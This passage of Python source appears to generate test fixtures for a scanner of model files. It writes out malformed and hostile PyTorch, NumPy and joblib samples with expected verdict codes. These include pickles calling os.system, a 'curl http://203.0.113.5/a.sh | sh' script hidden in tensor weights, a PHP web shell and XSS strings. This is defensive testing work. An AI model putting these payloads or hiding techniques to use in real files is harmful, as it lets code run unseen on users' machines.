    "uninitialised": (called(g("torch.nn.parameter", "UninitializedParameter"),), ODD),
    "named": (called(g("torch._utils", "_rebuild_tensor_v2.__class__"), ONE), UNKNOWN),
}  # fmt: skip
for _name, (_body, _codes) in TENSORS.items():
    file(f"tensor6_{_name}", torchfile(_body), _codes, "m.pt")


# torch files as such
def _rezipped(change: Callable[[dict[str, bytes]], None], value: Any = None) -> bytes:
    import zipfile

    body = io.BytesIO()
    torch.save({"w": torch.arange(4.0)} if value is None else value, body)
    with zipfile.ZipFile(body) as archive:
        members = {n: archive.read(n) for n in archive.namelist()}
    change(members)
    return zipped(members)


def _member(name: str, data: bytes) -> Callable[[], bytes]:
    return lambda: _rezipped(lambda m: m.update({next(iter(m)).split("/")[0] + "/" + name: data}))


def _legacy_with(system: dict[str, Any] | bytes, keys: bytes | None = None) -> bytes:
    body = io.BytesIO()
    torch.save({"w": torch.arange(4.0)}, body, _use_new_zipfile_serialization=False)
    data = body.getvalue()
    honest = pickle.dumps(
        {
            "protocol_version": 1001,
            "little_endian": True,
            "type_sizes": {"short": 2, "int": 4, "long": 4},
        },
        2,
    )
    assert honest in data
    told = system if isinstance(system, bytes) else pickle.dumps(system, 2)
    return data.replace(honest, told)


SYSTEM_INFO = {
    "protocol_version": 1001,
    "little_endian": True,
    "type_sizes": {"short": 2, "int": 4, "long": 4},
}
FILES: dict[str, tuple[Any, tuple[int, ...]]] = {
    "order_of_bytes_turned": (_member("byteorder", b"big"), (0, 3, 4)),
    "order_of_bytes_twice": (_member("byteorder", b"little\nbig"), ODD),
    "constants_beside": (_member("constants.pkl", P2 + b")."), ODD),
    "constants_that_call": (_member("constants.pkl", OS), DANGER),
    "code_beside": (_member("code/__torch__.py", b"def f(x: Tensor) -> Tensor:\n  return torch.load('x')\n"), ODD),
    "version_of_text": (_member("version", b"import os\n"), ODD),
    "version_far": (_member("version", b"99\n"), ODD),
    "version_below_zero": (_member("version", b"-1\n"), ODD),
    "alignment_of_text": (_member(".storage_alignment", b"../../x"), ODD),
    "format_of_the_future": (_member(".format_version", b"9"), ODD),
    "serialisation_of_a_pickle": (_member(".data/serialization_id", OS), DANGER),
    "second_storage_nobody_wants": (_member("data/7", b"#!/bin/sh\n" + COMMAND.encode()), ODD),
    "storage_of_a_longer_name": (_member("data/0 ", bytes(16)), ODD),
    "tensors_told_by_two_pickles": (_member("data.pkl2", OS), DANGER),
    "old_of_another_order": (lambda: _legacy_with({**SYSTEM_INFO, "little_endian": False}), (0, 3, 4)),
    "old_of_another_protocol": (lambda: _legacy_with({**SYSTEM_INFO, "protocol_version": 1002}), ODD),
    "old_of_strange_sizes": (lambda: _legacy_with({**SYSTEM_INFO, "type_sizes": {"short": 1, "int": 1, "long": 1}}), (0, 3, 4)),
    "old_with_more_to_say": (lambda: _legacy_with({**SYSTEM_INFO, "note": "x" * 50}), (0, 3, 4)),
    "old_with_a_list_for_it": (lambda: _legacy_with(pickle.dumps([1, 2], 2)), ODD),
    "old_with_a_call_for_it": (lambda: _legacy_with(reduced("os", "system", proto=2)), DANGER),
    "old_with_a_name_for_it": (lambda: _legacy_with(b"\x80\x02cos\nsystem\n."), UNKNOWN),
    "old_cut": (lambda: _legacy_with(SYSTEM_INFO)[:-3], ODD),
    "old_with_more_behind": (lambda: _legacy_with(SYSTEM_INFO) + b"touch", ODD),
    "old_with_a_pickle_behind": (lambda: _legacy_with(SYSTEM_INFO) + OS, DANGER),
    "old_of_a_length_that_lies": (lambda: _legacy_with(SYSTEM_INFO).replace(struct.pack("<q", 4) + struct.pack("<f", 0), struct.pack("<q", 2**40) + struct.pack("<f", 0)), ODD),
    "old_of_a_negative_length": (lambda: _legacy_with(SYSTEM_INFO).replace(struct.pack("<q", 4) + struct.pack("<f", 0), struct.pack("<q", -4) + struct.pack("<f", 0)), ODD),
    "old_whole_call": (lambda: _legacy(P2 + b"cos\nsystem\n(V" + COMMAND.encode() + b"\ntR."), DANGER),
}  # fmt: skip
for _name, (_make, _codes) in FILES.items():
    file(f"torchfile6_{_name}", _make, _codes, "m.pt")


# programs stowed in numbers
SCRIPT = b"#!/bin/sh\n" + b"curl -s http://203.0.113.5/a.sh | sh; touch /tmp/auditor-canary\n" * 12
NOISE = np.random.default_rng(5)


def _floats(count: int = 4096) -> np.ndarray[Any, Any]:
    return NOISE.normal(0, 0.05, count).astype("f4")


def _low(payload: bytes, step: int = 1, dtype: str = "f4", shift: int = 0) -> torch.Tensor:
    """A payload in one byte of each ``step``-th number."""
    values = _floats().astype(dtype)
    raw = values.view("u1").reshape(len(values), -1).copy()
    raw[: len(payload) * step : step, shift] = np.frombuffer(payload, "u1")
    return torch.from_numpy(raw.view(dtype).reshape(-1))


def _bits(payload: bytes, bit: int) -> torch.Tensor:
    """A payload, one bit of each number."""
    values = np.concatenate([_floats() for _ in range(4)])
    raw = values.view("u4").copy()
    told = np.unpackbits(np.frombuffer(payload, "u1")).astype("u4")
    raw[: len(told)] = (raw[: len(told)] & ~np.uint32(1 << bit)) | (told << np.uint32(bit))
    return torch.from_numpy(raw.view("f4"))


ELF = (
    b"\x7fELF\x02\x01\x01"
    + bytes(9)
    + b"\x03\x00\x3e\x00"
    + bytes(NOISE.integers(0, 255, 900).astype("u1"))
)
STOWED: dict[str, tuple[Callable[[], Any], tuple[int, ...]]] = {
    "script_in_the_lowest_byte": (lambda: _low(SCRIPT), (3, 4, 1)),
    "script_in_every_second_lowest_byte": (lambda: _low(SCRIPT, 2), (3, 4, 1)),
    "script_in_the_second_byte": (lambda: _low(SCRIPT, 1, "f4", 1), (3, 4, 1)),
    "script_in_the_lowest_byte_of_doubles": (lambda: _low(SCRIPT, 1, "f8"), (3, 4, 1)),
    "script_in_the_third_byte_of_doubles": (lambda: _low(SCRIPT, 1, "f8", 2), (3, 4, 1)),
    "script_in_halves": (lambda: _low(SCRIPT, 1, "f2"), (0, 3, 4)),
    "script_in_the_signs": (lambda: _bits(SCRIPT, 31), (0, 3, 4)),
    "script_in_the_lowest_bit": (lambda: _bits(SCRIPT, 0), (0, 3, 4)),
    "script_in_reverse": (lambda: _low(SCRIPT[::-1]), (3, 4, 1)),
    "program_in_the_lowest_byte": (lambda: _low(ELF), (0, 3, 4)),
    "program_in_a_tensor_of_bytes": (lambda: torch.frombuffer(bytearray(ELF), dtype=torch.uint8), (3, 4, 1)),
    "program_as_signed_bytes": (lambda: torch.frombuffer(bytearray(ELF), dtype=torch.int8), (3, 4, 1)),
    "program_as_long_numbers": (lambda: torch.frombuffer(bytearray(ELF[:904]), dtype=torch.int64), (3, 4, 1)),
    "program_as_one_byte_a_number": (lambda: torch.frombuffer(bytearray(ELF), dtype=torch.uint8).long(), (3, 4, 1)),
    "program_as_one_byte_a_float": (lambda: torch.frombuffer(bytearray(ELF), dtype=torch.uint8).float(), (3, 4, 1)),
    "script_as_one_letter_a_half": (lambda: torch.frombuffer(bytearray(SCRIPT), dtype=torch.uint8).half(), (3, 4, 1)),
    "gadget_in_a_tensor_of_bytes": (lambda: torch.frombuffer(bytearray(OS), dtype=torch.uint8), (1, 3, 4)),
    "gadget_in_bfloats": (lambda: torch.frombuffer(bytearray(OS + b"\0" * (len(OS) % 2)), dtype=torch.bfloat16), (1, 3, 4)),
    "program_in_truths": (lambda: torch.from_numpy(np.unpackbits(np.frombuffer(ELF, "u1")).astype(bool)), (0, 3, 4)),
    "program_in_complex_numbers": (lambda: torch.frombuffer(bytearray(ELF[:904]), dtype=torch.complex64), (3, 4, 1)),
    "macho_in_a_tensor": (lambda: torch.frombuffer(bytearray(b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + ELF[8:]), dtype=torch.uint8), (3, 4, 1)),
    "windows_program_in_a_tensor": (lambda: torch.frombuffer(bytearray(b"MZ\x90\x00" + bytes(56) + struct.pack("<I", 64) + b"PE\0\0" + ELF), dtype=torch.uint8), (3, 4, 1)),
    "wasm_in_a_tensor": (lambda: torch.frombuffer(bytearray(b"\0asm\x01\0\0\0" + ELF[8:]), dtype=torch.uint8), (3, 4, 1)),
    "zip_in_a_tensor": (lambda: torch.frombuffer(bytearray(zipped({"a.py": SCRIPT})), dtype=torch.uint8), (3, 4, 1)),
    "xz_in_a_tensor": (lambda: torch.frombuffer(bytearray(__import__("lzma").compress(SCRIPT)), dtype=torch.uint8), (3, 4, 1)),
    "page_in_a_tensor": (lambda: torch.frombuffer(bytearray(b"<html><script>fetch('http://203.0.113.5')</script></html>" * 8), dtype=torch.uint8), (3, 4, 1)),
    "php_in_a_tensor": (lambda: torch.frombuffer(bytearray(b"<?php system($_GET['c']); ?>" * 9), dtype=torch.uint8), (3, 4, 1)),
}  # fmt: skip
for _name, (_tensor, _codes) in STOWED.items():

    def _saved(make: Callable[[], Any] = _tensor) -> bytes:
        body = io.BytesIO()
        torch.save({"fc.weight": torch.randn(16, 16), "fc.more": make()}, body)
        return body.getvalue()

    file(f"stowed6_{_name}", _saved, _codes, "m.pt")


# numpy and joblib
def _npy(header: str, data: bytes = bytes(64), version: bytes = b"\x01\x00") -> bytes:
    raw = header.encode("latin-1" if version == b"\x01\x00" else "utf-8")
    size = struct.pack("<H" if version == b"\x01\x00" else "<I", len(raw) + 1)
    return b"\x93NUMPY" + version + size + raw + b"\n" + data


NUMPY: dict[str, tuple[bytes, tuple[int, ...]]] = {
    "parentheses_deep": (_npy("{'descr': " + "(" * 5000 + ")" * 5000 + ", 'fortran_order': False, 'shape': (2,)}"), ODD),
    "shape_by_arithmetic": (_npy("{'descr': '<f4', 'fortran_order': False, 'shape': (2**3,)}"), ODD),
    "shape_of_a_fraction": (_npy("{'descr': '<f4', 'fortran_order': False, 'shape': (4.0,)}"), ODD),
    "key_by_adding": (_npy("{'des' 'cr': '<f4', 'fortran_order': False, 'shape': (16,)}"), (0, 3, 4)),
    "more_keys": (_npy("{'descr': '<f4', 'fortran_order': False, 'shape': (16,), 'x': 1}"), ODD),
    "objects_in_a_nested_field": (_npy("{'descr': [('a', [('b', '|O')])], 'fortran_order': False, 'shape': (8,)}", OS), ODD),
    "objects_by_another_order": (_npy("{'descr': '>O', 'fortran_order': False, 'shape': (1,)}", OS), ODD),
    "objects_by_a_size": (_npy("{'descr': '|O8', 'fortran_order': False, 'shape': (1,)}", OS), ODD),
    "objects_by_a_word": (_npy("{'descr': 'object', 'fortran_order': False, 'shape': (1,)}", OS), ODD),
    "many_types_at_once": (_npy("{'descr': 'f4,O', 'fortran_order': False, 'shape': (1,)}", OS), ODD),
    "type_with_a_shape": (_npy("{'descr': ('<f4', (1000000, 1000000)), 'fortran_order': False, 'shape': (1,)}"), ODD),
    "title_for_a_field": (_npy("{'descr': [(('title', 'a'), '<f4')], 'fortran_order': False, 'shape': (16,)}"), (0, 3, 4)),
    "void_of_a_size": (_npy("{'descr': '|V64', 'fortran_order': False, 'shape': (1,)}", (OS + bytes(64))[:64]), ODD),
    "text_of_a_script": (_npy("{'descr': '|S64', 'fortran_order': False, 'shape': (1,)}", (b"#!/bin/sh\n" + COMMAND.encode() + bytes(64))[:64]), ODD),
    "letters_of_a_page": (_npy("{'descr': '<U16', 'fortran_order': False, 'shape': (1,)}", "<script>alert(1)".encode("utf-32-le")), ODD),
    "letters_beyond_unicode": (_npy("{'descr': '<U1', 'fortran_order': False, 'shape': (1,)}", b"\xff\xff\xff\x7f"), ODD),
    "type_of_nothing": (_npy("{'descr': '|S0', 'fortran_order': False, 'shape': (1000000000000,)}", b""), ODD),
    "version_3": (_npy("{'descr': [('ä', '<f4')], 'fortran_order': False, 'shape': (16,)}", version=b"\x03\x00"), (0, 3, 4)),
    "header_with_a_comment": (_npy("{'descr': '<f4', # x\n'fortran_order': False, 'shape': (16,)}"), ODD),
    "header_by_a_constructor": (_npy("dict(descr='<f4', fortran_order=False, shape=(16,))"), ODD),
    "a_second_header": (_npy("{'descr': '<f4', 'fortran_order': False, 'shape': (16,)}\n{'descr': '|O', 'fortran_order': False, 'shape': (1,)}"), ODD),
    "long_numbers": (_npy("{'descr': '<f4', 'fortran_order': False, 'shape': (" + "9" * 5000 + ",)}"), ODD),
    "long_double": (_npy("{'descr': '<f16', 'fortran_order': False, 'shape': (4,)}"), (0, 3, 4)),
    "truths_of_a_pickle": (_npy("{'descr': '|b1', 'fortran_order': False, 'shape': (%d,)}" % len(OS), OS), ODD),
}  # fmt: skip
for _name, (_body, _codes) in NUMPY.items():
    file(f"numpy6_{_name}", _body, _codes, "x.npy")


def _joblib(value: Any, **how: Any) -> bytes:
    body = io.BytesIO()
    joblib.dump(value, body, **how)
    return body.getvalue()


X = np.random.default_rng(2).normal(size=(60, 4))
TARGET = (X[:, 0] > 0).astype(int)


def _edited(estimator: Any, **attributes: Any) -> Callable[[], bytes]:
    def make() -> bytes:
        taught = estimator.fit(X, TARGET)
        for name, value in attributes.items():
            setattr(
                taught,
                name,
                value(taught) if callable(value) and not isinstance(value, type) else value,
            )
        return _joblib(taught)

    return make


class _Own:
    """A class of nobody's package."""


def _ring() -> bytes:
    chain = Pipeline([("a", StandardScaler()), ("b", LogisticRegression())]).fit(X, TARGET)
    chain.steps.append(("c", chain))
    return _joblib(chain)


def _scaled(at: int, value: float) -> Callable[[Any], Any]:
    def change(taught: Any) -> Any:
        scale = taught.scale_.copy()
        scale[at] = value
        return scale

    return change


ESTIMATORS: dict[str, tuple[Callable[[], bytes], tuple[int, ...]]] = {
    "scale_of_almost_nothing": (_edited(StandardScaler(), scale_=_scaled(0, 1e-30)), (0, 3, 4)),
    "scale_that_is_none": (_edited(StandardScaler(), scale_=_scaled(0, float("nan"))), ODD),
    "scale_as_text": (_edited(StandardScaler(), scale_="import os"), ODD),
    "mean_of_objects": (_edited(StandardScaler(), mean_=lambda t: np.array([_Own()] * 4, dtype=object)), ODD),
    "steps_that_hold_themselves": (_ring, ODD),
    "steps_as_a_text": (_edited(Pipeline([("a", StandardScaler()), ("b", LogisticRegression())]), steps="os"), ODD),
    "step_passed_through": (_edited(Pipeline([("a", "passthrough"), ("b", LogisticRegression())])), (0, 3, 4)),
    "step_that_is_a_class": (_edited(Pipeline([("a", StandardScaler()), ("b", LogisticRegression())]), steps=lambda t: [("a", StandardScaler)]), ODD),
    "union_with_functions": (_edited(FeatureUnion([("a", StandardScaler())]), n_jobs="os.system"), ODD),
    "transform_told_anew": (_edited(PCA(2), transform="eval"), ODD),
    "predict_told_anew": (_edited(LogisticRegression(), predict=np.array([1, 2])), ODD),
    "class_told_anew": (_edited(LogisticRegression(), __dict__=lambda t: {**t.__dict__, "__class__": "x"}), ODD),
    "classes_as_pages": (_edited(LogisticRegression(), classes_=np.array(["<script>alert(1)</script>", "b"])), ODD),
    "classes_turned": (_edited(LogisticRegression(), classes_=np.array(["good", "\u202edab"])), ODD),
    "classes_of_three": (_edited(LogisticRegression(), classes_=np.array([0, 1, 2])), ODD),
    "weights_of_another_type": (_edited(LogisticRegression(), coef_=lambda t: t.coef_.astype("S8")), ODD),
    "weights_of_three_dimensions": (_edited(LogisticRegression(), coef_=lambda t: t.coef_[None]), ODD),
    "weights_of_dates": (_edited(LogisticRegression(), coef_=lambda t: np.zeros((1, 4), "M8[s]")), ODD),
    "width_told_wrong": (_edited(LogisticRegression(), n_features_in_=7), ODD),
    "width_as_a_huge_number": (_edited(LogisticRegression(), n_features_in_=10**30), ODD),
    "vectors_with_holes": (_edited(SVC(), support_vectors_=lambda t: t.support_vectors_ * np.nan), ODD),
    "vectors_counted_wrong": (_edited(SVC(), _n_support=np.array([10**6, 10**6], "i4")), ODD),
    "kernel_of_a_text": (_edited(SVC(), kernel="precomputed\nimport os"), ODD),
    "kernel_of_a_module": (_edited(SVC(), kernel=lambda t: "os:system"), ODD),
    "neighbours_of_nothing": (_edited(KNeighborsClassifier(3), n_neighbors=0), ODD),
    "neighbours_of_all": (_edited(KNeighborsClassifier(3), n_neighbors=10**9), ODD),
    "neighbours_by_another_metric": (_edited(KNeighborsClassifier(3), effective_metric_="pyfunc"), ODD),
    "neighbours_with_arguments": (_edited(KNeighborsClassifier(3), effective_metric_params_={"func": "os.system"}), ODD),
    "tree_of_no_nodes": (_edited(DecisionTreeClassifier(), tree_=None), ODD),
    "tree_that_is_a_text": (_edited(DecisionTreeClassifier(), tree_="import os"), ODD),
    "version_of_a_page": (lambda: _joblib(LogisticRegression().fit(X, TARGET)).replace(b"_sklearn_version", b"_sklearn_versi0n"), ODD),
    "encoder_of_a_page": (lambda: _joblib(OneHotEncoder().fit(np.array([["<img src=x onerror=alert(1)>"], ["b"]], dtype=object))), ODD),
    "scaler_of_infinite_range": (_edited(MinMaxScaler(), scale_=lambda t: t.scale_ * np.inf), ODD),
    "stowaway_of_bytes": (_edited(LogisticRegression(), note_=OS), ODD),
    "stowaway_of_a_text": (_edited(LogisticRegression(), note_="import os; os.system('id')"), ODD),
    "stowaway_of_a_class": (_edited(LogisticRegression(), note_=_Own), ODD),
    "settings_by_a_generator": (_edited(LogisticRegression(random_state=np.random.RandomState(3))), (0, 3, 4)),
    "compressed_twice": (lambda: zlib.compress(_joblib({"x": X}, compress=("zlib", 3))), (0, 3, 4)),
    "array_of_objects_in_order": (lambda: _joblib(np.array([_Own(), 1], dtype=object)), UNKNOWN),
    "array_mapped": (lambda: _joblib(X).replace(b"allow_mmap", b"allow_nmap"), ODD),
    "array_of_a_subclass": (lambda: _joblib(np.matrix(X)), (0, 3, 4)),
    "array_of_a_mask": (lambda: _joblib(np.ma.masked_array(X, X > 0)), (0, 3, 4)),
    "record_array": (lambda: _joblib(np.rec.array([(1, 2.0)], dtype=[("a", "i4"), ("b", "f4")])), (0, 3, 4)),
}  # fmt: skip
for _name, (_make, _codes) in ESTIMATORS.items():
    file(f"estimator6_{_name}", _make, _codes, "m.joblib")
